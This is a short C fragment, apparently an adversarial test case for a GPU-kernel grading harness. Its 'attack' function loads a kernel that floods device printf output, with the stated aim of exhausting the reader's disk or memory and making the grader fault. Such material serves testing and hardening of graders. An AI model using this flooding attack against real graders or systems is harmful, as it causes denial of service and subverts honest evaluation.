/* Tries to fill the disk or the memory of whoever reads the output of the device process, by printf in kernels.
 * Gains a fault of the grader. */
static const char source[] = "extern \"C\" __global__ void say(int n)\n"
                             "{ for (int i = 0; i < n; i++) printf(\"%d %s\\n\", i, \"a line that is as long as a line "
                             "of a flood has to be, or longer\"); }\n";

static lab_status attack(attack_honest *honest, void *arguments, size_t bytes, float *out, const float *in, int count)
{
    lab_module *module;
    lab_function say;
    LAB_TRY(lab_module_load_source(&module, source, "say"));
    LAB_TRY(lab_module_get_function(&say, module, "say"));
    for (int i = 0; i < 100; i++) LAB_TRY(lab_launch(say, LAB_DIM(64), LAB_DIM(64), 0, NULL, LAB_ARGS(100000)));
    return lab_device_synchronize();
}
